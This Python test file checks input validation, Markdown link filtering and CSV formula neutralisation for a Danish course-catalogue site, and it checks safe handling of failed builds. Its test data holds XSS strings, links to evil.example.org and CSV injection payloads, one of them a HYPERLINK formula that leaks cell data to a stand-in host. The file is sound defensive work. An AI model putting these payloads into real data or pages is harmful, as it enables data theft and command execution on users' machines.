"""Values that are unsafe or would break the build (issue 13, items 4, 5, 7 and 10).

Bad inputs in the style of tests/test_bad_inputs.py (the exact set of FILE:LINE and a fragment
of each Danish message), the one address rule (`macros/catalogue/safety.py`) as validation and the
Markdown filter use it, and builds: the published CSV is safe for spreadsheets and still a
valid Data Package, and a failed build leaves the previous site as it was.
"""

from __future__ import annotations

import csv
import json
import subprocess
import sys
from pathlib import Path

import pytest

from macros.catalogue import safety
from macros.views.text import markdown_html
from tests.conftest import FIXTURES, build_site
from tests.test_bad_inputs import COURSES, MUNICIPALITY, Case, course, matches, muni, run

SOURCES = "sources.yaml"
SOURCE = (FIXTURES / "minimal" / "sources.yaml").read_text(encoding="utf-8")
WEB_MESSAGE = "er ikke en gyldig webadresse. Den skal begynde med https:// og have et domæne"


def website(url: str) -> dict[str, str]:
    """The municipality with a `website` (on line 3)."""
    return {
        MUNICIPALITY: muni({2: f"name: Testby Kommune\nwebsite: {url}\nwebsite_source: kilde-a"})
    }


def source_url(url: str) -> dict[str, str]:
    """The source with a `url` (on line 5)."""
    return {SOURCES: SOURCE + f"  url: {url}\n"}


URL_CASES = [
    Case(f"website {url}", website(url), [(MUNICIPALITY, 3, WEB_MESSAGE)])
    for url in (
        "javascript:alert(1)",
        '"data:text/html,<script>alert(1)</script>"',
        "http://www.testby.dk/",
        "https://",
        "https:///sti",
        "ftp://x",
        "//evil.example.org/",
        "mailto:post@testby.dk",
        "https://www.testby.dk@evil.example.org/",
        "https://localhost/",
        '"https://www.testby.dk/ med mellemrum"',
    )
] + [
    Case(f"source url {url}", source_url(url), [(SOURCES, 5, WEB_MESSAGE)])
    for url in ('"data:text/plain,hej"', "javascript:alert(1)", "http://x.dk", "ftp://x")
]

CASES = [
    *URL_CASES,
    Case("a good website", website("https://www.testby.dk/kontakt?a=1#top"), []),
    Case("a good source url", source_url("https://www.ærø.dk/"), []),
    Case(
        "unsafe link in a description is a warning",
        {
            COURSES: course(
                {7: "  description: Se [siden](//evil.example.org/x) og [den](http://x.dk)."}
            )
        },
        [],
        warnings=[
            (
                COURSES,
                7,
                "Linket «//evil.example.org/x» i «description» vises som almindelig tekst",
            ),
            (COURSES, 7, "Linket «http://x.dk» i «description» vises som almindelig tekst"),
        ],
    ),
    Case(
        "javascript link in a note is a warning",
        {MUNICIPALITY: muni({24: "        note: '[klik](javascript:alert(1))'"})},
        [],
        warnings=[(MUNICIPALITY, 24, "Linket «javascript:alert(1)» i «note»")],
    ),
    Case(
        "safe links give no warning",
        {
            COURSES: course(
                {
                    7: "  description: '[a](https://www.testby.dk/) [b](mailto:post@testby.dk) ![kort](https://www.testby.dk/kort.png)'"
                }
            )
        },
        [],
    ),
    # Item 7: dates the site cannot show.
    Case(
        "active_to 9999-12-31",
        {COURSES: course(append="  active_to: 9999-12-31\n")},
        [
            (
                COURSES,
                13,
                "«9999-12-31» i «active_to» ligger uden for det tidsrum, siden kan vise. Skriv en dato fra 2000-01-01 til 2099-12-31",
            )
        ],
    ),
    Case(
        "active_from in year 1",
        {COURSES: course(append="  active_from: 0001-01-01\n")},
        [(COURSES, 13, "«0001-01-01» i «active_from» ligger uden for det tidsrum")],
    ),
    Case(
        "reviewed in year 1",
        {COURSES: course({12: "  reviewed: 0001-01-01"})},
        [(COURSES, 12, "«0001-01-01» i «reviewed» ligger uden for det tidsrum")],
    ),
    Case(
        "closure to year 9999",
        {MUNICIPALITY: muni({23: "        to: 9999-12-31"})},
        [(MUNICIPALITY, 23, "«9999-12-31» i «to» ligger uden for det tidsrum")],
    ),
    # Item 10: characters that must not reach HTML, CSV or calendars.
    Case(
        "escaped bell in a title",
        {COURSES: course({2: '  title: "Kur\\u0007sus"'})},
        [(COURSES, 2, "«title» indeholder et usynligt tegn (styretegn U+0007)")],
    ),
    Case(
        "escaped NUL in a note",
        {MUNICIPALITY: muni({24: '        note: "Lukket\\0"'})},
        [(MUNICIPALITY, 24, "«note» indeholder et usynligt tegn (styretegn U+0000)")],
    ),
    Case(
        "escaped carriage return in a description",
        {COURSES: course({7: '  description: "Et\\rkursus."'})},
        [(COURSES, 7, "«description» indeholder et usynligt tegn (vognretur (CR))")],
    ),
    Case(
        "escaped tab in a name",
        {MUNICIPALITY: muni({7: '    name: "Ind\\tgangen"'})},
        [(MUNICIPALITY, 7, "«name» indeholder et usynligt tegn (tabulator)")],
    ),
    Case(
        "escaped line separator in a description",
        {COURSES: course({7: '  description: "Et\\u2028kursus."'})},
        [(COURSES, 7, "«description» indeholder et usynligt tegn (linjeskilletegn U+2028)")],
    ),
    Case(
        "raw paragraph separator in a quoted description",
        {COURSES: course({7: '  description: "Et\u2029kursus."'})},
        # refused by the YAML reader, at the line the editor sees (yamlload.odd_break_problems)
        [(COURSES, 7, "usynligt afsnitsskift (PARAGRAPH SEPARATOR) (U+2029)")],
    ),
    Case(
        "escaped C1 control in a source title",
        {SOURCES: SOURCE.replace("title: Testkilde A", 'title: "Testkilde\\x85A"')},
        [(SOURCES, 2, "«title» indeholder et usynligt tegn (styretegn U+0085)")],
    ),
    Case(
        "line breaks in a block description are fine",
        {COURSES: course({7: "  description: |\n    Et kursus.\n\n    - med en liste"})},
        [],
    ),
    Case(
        "escaped bell in a guide text",
        {
            "guides/stoette.yaml": (FIXTURES / "minimal" / "guides" / "stoette.yaml")
            .read_text(encoding="utf-8")
            .replace(
                'question: "Hvor meget fylder det?"', 'question: "Hvor meget\\u0007 fylder det?"'
            )
        },
        [("guides/stoette.yaml", 32, "«question» indeholder et usynligt tegn (styretegn U+0007)")],
    ),
    # Item 10: lengths and blank text.
    Case(
        "title of 10,000 characters",
        {COURSES: course({2: "  title: " + "x" * 10_000})},
        [
            (
                COURSES,
                2,
                "«title» er for lang: 10000 tegn. Den må højst være 120 tegn; forkort teksten.",
            )
        ],
    ),
    Case(
        "description of 5 MB",
        {COURSES: course({7: "  description: " + "ord " * 1_250_000})},
        [(COURSES, 7, "«description» er for lang: 4999999 tegn. Den må højst være 2000 tegn")],
    ),
    Case(
        "note of 301 characters",
        {MUNICIPALITY: muni({24: "        note: " + "y" * 301})},
        [(MUNICIPALITY, 24, "Den må højst være 300 tegn")],
    ),
    Case("title of exactly 120 characters", {COURSES: course({2: "  title: " + "x" * 120})}, []),
    Case(
        "title of 120 characters that the CSV prefixes",
        {COURSES: course({2: "  title: '=" + "x" * 119 + "'"})},
        [(COURSES, 2, "en tekst, der begynder med «=», må højst være 119 tegn")],
    ),
    Case(
        "whitespace-only title",
        {COURSES: course({2: '  title: "   "'})},
        [(COURSES, 2, "«title» er tom (kun mellemrum)")],
    ),
    Case(
        "whitespace-only entry point name",
        {MUNICIPALITY: muni({7: "    name: ' '"})},
        [(MUNICIPALITY, 7, "«name» er tom (kun mellemrum)")],
    ),
    Case(
        "whitespace-only optional note",
        {MUNICIPALITY: muni({24: "        note: '  '"})},
        [(MUNICIPALITY, 24, "«note» er tom (kun mellemrum)")],
    ),
    # Item 10: the same window twice.
    Case(
        "opening hours window repeated",
        {
            MUNICIPALITY: muni(
                {
                    20: "        closes: 12:00\n      - channel: telefon\n        days: [mandag]\n        opens: 09:00\n        closes: 12:00"
                }
            )
        },
        [
            (
                MUNICIPALITY,
                21,
                "Tidsrummet gentager linje 17 (mandag 09:00–12:00) og ville blive vist to gange",
            )
        ],
    ),
    Case(
        "window repeated with another note",
        {
            MUNICIPALITY: muni(
                {
                    16: '        closes: "11:00"\n      - channel: fremmoede\n        days: [tirsdag]\n        opens: "09:00"\n        closes: "11:00"\n        note: Igen'
                }
            )
        },
        [(MUNICIPALITY, 17, "Tidsrummet gentager linje 13 (tirsdag 09:00–11:00)")],
    ),
    Case(
        "same times on another channel are fine",
        {
            MUNICIPALITY: muni(
                {
                    16: '        closes: "11:00"\n      - channel: telefon\n        days: [lørdag]\n        opens: "09:00"\n        closes: "11:00"'
                }
            )
        },
        [],
    ),
    Case(
        "course schedule window repeated",
        {
            COURSES: course(
                append="  schedule:\n    - days: [tirsdag]\n      opens: '10:00'\n      closes: '12:00'\n"
                "    - days: [tirsdag, torsdag]\n      opens: '10:00'\n      closes: '12:00'\n"
            )
        },
        [(COURSES, 17, "Tidsrummet gentager linje 14 (tirsdag 10:00–12:00)")],
    ),
    # Item 5: what the CSV neutralises is not an editor's error.
    Case(
        "formula-like text and +45 phone numbers are valid",
        {
            COURSES: course({2: "  title: '=HYPERLINK(\"https://evil.example.org\")'"}),
            MUNICIPALITY: muni(
                {10: '    phone: "+45 99 60 31 80"', 24: "        note: '@SUM(1+1)'"}
            ),
        },
        [],
        # Only the style check's word about the straight quotes (data/style.yaml) remains.
        [(COURSES, 2, 'Forkert tegn: »"«')],
    ),
]


def test_every_kind_of_bad_url_is_covered():
    assert len(URL_CASES) >= 12


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_unsafe_value(case: Case, make_data):
    errors, warnings = run(make_data, case.files)
    matches(errors, case.expected)
    matches(warnings, case.warnings)


def test_all_at_once(make_data):
    """A bad address, a date and a control character in three files: all three reported."""
    files = {
        **website("javascript:alert(1)"),
        COURSES: course({2: '  title: "a\\u0007"'}, append="  active_to: 9999-12-31\n"),
        **source_url("ftp://x"),
    }
    errors, _ = run(make_data, files)
    assert {(f, n) for f, n, _ in errors} == {
        (MUNICIPALITY, 3),
        (COURSES, 2),
        (COURSES, 13),
        (SOURCES, 5),
    }


# --- The one address rule --------------------------------------------------------------------


@pytest.mark.parametrize(
    "url, ok",
    [
        ("https://www.ikast-brande.dk/", True),
        ("HTTPS://www.ikast-brande.dk/", True),
        ("https://www.ærø.dk/", True),
        ("https://xn--r-1ga.dk/", True),
        ("https://ankestyrelsen.dk:443/a?b=c#d", True),
        ("https://", False),
        ("https:///x", False),
        ("https:x.dk", False),
        ("https://x", False),
        ("https://127.0.0.1/", False),
        ("https://x.dk:abc/", False),
        ("https://a@x.dk/", False),
        ("http://x.dk/", False),
        ("//x.dk/", False),
        ("ftp://x", False),
        ("javascript:alert(1)", False),
        ("data:text/html,x", False),
        (" https://x.dk/", False),
        ("https://x.dk/\u0007", False),
        ("", False),
    ],
)
def test_web_address(url: str, ok: bool):
    assert safety.is_web_address(url) is ok


@pytest.mark.parametrize(
    "url, ok",
    [
        ("https://x.dk/", True),
        ("mailto:post@x.dk", True),
        ("MAILTO:post@x.dk", True),
        ("tel:+4599603180", True),
        ("mailto:javascript:alert(1)", False),
        ("tel:javascript", False),
        ("//evil.example.org", False),
        ("#top", False),
        ("/absolut", False),
        ("vbscript:x", False),
    ],
)
def test_link_target(url: str, ok: bool):
    assert safety.is_link_target(url) is ok


@pytest.mark.parametrize(
    "markdown, html",
    [
        ("[a](//evil.example.org/x)", "<p><span>a</span></p>"),
        ("[a](http://x.dk)", "<p><span>a</span></p>"),
        ("[a](javascript:alert(1))", "<p><span>a</span></p>"),
        ("[a](JaVaScRiPt:alert(1))", "<p><span>a</span></p>"),
        ("[a](data:text/html,x)", "<p><span>a</span></p>"),
        ("[a][1]\n\n[1]: //evil.example.org", "<p><span>a</span></p>"),
        ("[a](https://x.dk/)", '<p><a href="https://x.dk/">a</a></p>'),
        ("[a](mailto:p@x.dk)", '<p><a href="mailto:p@x.dk">a</a></p>'),
        # The editors' guide: an image becomes a link to the image.
        ("Se ![kortet](https://x.dk/k.png).", '<p>Se <a href="https://x.dk/k.png">kortet</a>.</p>'),
        ("![](https://x.dk/k.png)", '<p><a href="https://x.dk/k.png">Billede</a></p>'),
        ("![kort](//evil.example.org/k.png)", "<p><span>kort</span></p>"),
    ],
)
def test_markdown_links(markdown: str, html: str):
    assert str(markdown_html(markdown)) == html


@pytest.mark.parametrize(
    "text, written",
    [
        ("=HYPERLINK(1)", "'=HYPERLINK(1)"),
        ("+1+cmd", "'+1+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Kursus = godt", "Kursus = godt"),
        ("'allerede'", "'allerede'"),
    ],
)
def test_spreadsheet_safe(text: str, written: str):
    assert safety.spreadsheet_safe(text) == written


# --- Builds ----------------------------------------------------------------------------------

FIX_COURSES = (FIXTURES / "minimal" / "courses" / "testby.yaml").read_text(encoding="utf-8")
FIX_MUNI = (FIXTURES / "minimal" / "municipalities" / "testby.yaml").read_text(encoding="utf-8")
FORMULAS = {
    "title": '=HYPERLINK("https://evil.example.org/?d="&A1,"Klik")',
    "description": "@SUM(1+1)*cmd|' /C calc'!A0",
    "note": "+1+cmd|' /C calc'!A0",
}


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


@pytest.fixture(scope="module")
def formula_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The minimal catalogue with formulas in free text and a +45 phone number, built over an
    older site (which the build must replace completely)."""
    from scripts.gates import copy_project
    from tests.conftest import copy_data

    base = tmp_path_factory.mktemp("formulas")
    data = copy_data(base)
    courses = data / "courses" / "testby.yaml"
    text = courses.read_text(encoding="utf-8")
    text = text.replace("title: Nada", "title: " + json.dumps(FORMULAS["title"]))
    text = text.replace(
        "description: Øreakupunktur i en gruppe.",
        "description: " + json.dumps(FORMULAS["description"]),
    )
    courses.write_text(text, encoding="utf-8")
    municipality = data / "municipalities" / "testby.yaml"
    text = municipality.read_text(encoding="utf-8")
    text = text.replace('phone: "99 60 31 80"', 'phone: "+45 99 60 31 80"')
    text = text.replace("note: Lukket mellem jul og nytår", "note: " + json.dumps(FORMULAS["note"]))
    municipality.write_text(text, encoding="utf-8")
    project = copy_project(base / "project", data)
    site = base / "site"
    (site / "gammel").mkdir(parents=True)
    (site / "gammel" / "index.html").write_text("forrige build", encoding="utf-8")
    result = build_site(project, site)
    assert result.returncode == 0, result.stdout + result.stderr
    return site


def test_formulas_are_neutralised_in_the_csv(formula_site: Path):
    courses = read_csv(formula_site / "data" / "courses.csv")
    nada = [r for r in courses if "HYPERLINK" in r["title"]]
    assert nada, [r["title"] for r in courses]
    assert nada[0]["title"] == "'" + FORMULAS["title"]
    assert nada[0]["description"] == "'" + FORMULAS["description"]
    closures = read_csv(formula_site / "data" / "closures.csv")
    assert [r["note"] for r in closures] == ["'" + FORMULAS["note"]]
    entry_points = read_csv(formula_site / "data" / "entry_points.csv")
    assert entry_points[0]["phone"] == "+45 99 60 31 80"  # a pattern field: as written
    for path in (formula_site / "data").glob("*.csv"):
        for row in read_csv(path):
            for value in row.values():
                assert not value.startswith(safety.FORMULA_START) or value.startswith("+45 "), (
                    path.name,
                    value,
                )


def test_neutralised_package_is_valid_and_says_so(formula_site: Path):
    descriptor = formula_site / "data" / "datapackage.json"
    frictionless = Path(sys.executable).parent / "frictionless"
    result = subprocess.run(
        [str(frictionless), "validate", str(descriptor)],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert result.returncode == 0, result.stdout + result.stderr
    description = json.loads(descriptor.read_text(encoding="utf-8"))["description"]
    assert "apostrof (') foran" in description and "=, +, -, @" in description
    page = (formula_site / "data" / "index.html").read_text(encoding="utf-8")
    assert "apostrof (&#39;) foran" in page or "apostrof (') foran" in page


def test_pages_and_calendars_show_the_text_as_written(formula_site: Path):
    page = (formula_site / "courses" / "testby" / "nada" / "index.html").read_text(encoding="utf-8")
    assert "=HYPERLINK(" in page and "'=HYPERLINK(" not in page
    calendar = next((formula_site).rglob("*.ics")).read_text(encoding="utf-8")
    assert "BEGIN:VCALENDAR" in calendar


def test_a_successful_build_replaces_the_old_site(formula_site: Path):
    assert not (formula_site / "gammel").exists(), "files of the previous build are gone"
    assert (formula_site / "index.html").is_file()
    leftovers = [p.name for p in formula_site.parent.iterdir() if p.name.startswith(".site.")]
    assert leftovers == []


def test_a_failed_build_leaves_the_previous_site(make_data, fixture_project, tmp_path: Path):
    """A crash after most pages are written (as `active_to: 9999-12-31` crashed the calendars
    before dates were checked) leaves the previous site untouched and no half-written one."""
    project = fixture_project(make_data())
    calendars = project / "macros" / "exports" / "calendars.py"
    calendars.write_text(
        calendars.read_text(encoding="utf-8")
        + "\n\ndef _crash(*args, **kwargs):\n    raise OverflowError('date value out of range')\n\n"
        "generated_files = _crash  # noqa\n",
        encoding="utf-8",
    )
    assert "def generated_files" in calendars.read_text(encoding="utf-8")
    site = tmp_path / "out"
    site.mkdir()
    (site / "index.html").write_text("forrige build", encoding="utf-8")
    result = build_site(project, site)
    assert result.returncode != 0
    assert sorted(p.name for p in site.iterdir()) == ["index.html"]
    assert (site / "index.html").read_text(encoding="utf-8") == "forrige build"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".out.")] == []


def test_a_failed_first_build_leaves_no_site(make_data, fixture_project, tmp_path: Path):
    """Validation refuses a control character: nothing is written, the message is Danish."""
    data = make_data({COURSES: course({2: '  title: "Kur\\u0007sus"'})})
    project = fixture_project(data)
    site = tmp_path / "out"
    result = build_site(project, site)
    assert result.returncode != 0
    assert not site.exists()
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".out.")] == []
    assert "data/courses/testby.yaml:2: «title» indeholder et usynligt tegn" in result.stderr
    assert "Traceback" not in result.stderr


def test_a_build_aborted_by_a_strict_warning_leaves_the_previous_site(
    make_data, fixture_project, tmp_path: Path
):
    """MkDocs aborts a strict build after `on_post_build`: the new site is not put in place."""
    project = fixture_project(make_data())
    page = project / "content" / "privatliv.md"
    page.write_text(
        page.read_text(encoding="utf-8") + "\n[Et link](findes-ikke.md)\n", encoding="utf-8"
    )
    site = tmp_path / "out"
    site.mkdir()
    (site / "index.html").write_text("forrige build", encoding="utf-8")
    result = build_site(project, site)
    assert result.returncode != 0
    assert "findes-ikke.md" in result.stdout + result.stderr
    assert sorted(p.name for p in site.iterdir()) == ["index.html"]
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".out.")] == []
